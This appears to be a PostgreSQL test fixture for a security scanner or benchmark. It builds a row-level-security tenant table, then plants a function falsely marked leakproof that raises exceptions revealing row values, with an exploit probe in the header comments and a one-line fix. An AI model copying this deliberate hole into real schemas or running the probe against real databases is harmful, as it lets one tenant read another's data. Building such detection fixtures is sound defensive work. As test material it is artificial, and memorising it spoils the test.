-- verdict: leak
-- kind: leakproof-operator
-- object: public.text_spy
-- why: the operator's function is marked leakproof and raises
-- severity: high
-- roles: app_owner app_user
-- exploit-begin
-- do $d$ begin perform count(*) from docs where title operator(public.~?~) 'A-'; exception when raise_exception then perform set_config('p.hit','t',false); end $d$;
-- select coalesce(current_setting('p.hit', true) = 't', false) as leaked;
-- exploit-end
-- fix-begin
-- alter function text_spy(text, text) not leakproof;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
create table docs (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  title text not null
);
insert into docs (tenant_id, title) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table docs enable row level security;
create policy tenant_isolation on docs using (tenant_id = current_setting('app.tenant_id', true)::uuid) with check (tenant_id = current_setting('app.tenant_id', true)::uuid);
grant select, insert, update, delete on docs to app_user;
reset role; create function text_spy(text, text) returns boolean language plpgsql leakproof cost 0.0001 as $$ begin if $1 like $2 || '%' then raise exception 'saw %', $1; end if; return false; end $$;
create operator public.~?~ (leftarg = text, rightarg = text, function = text_spy);
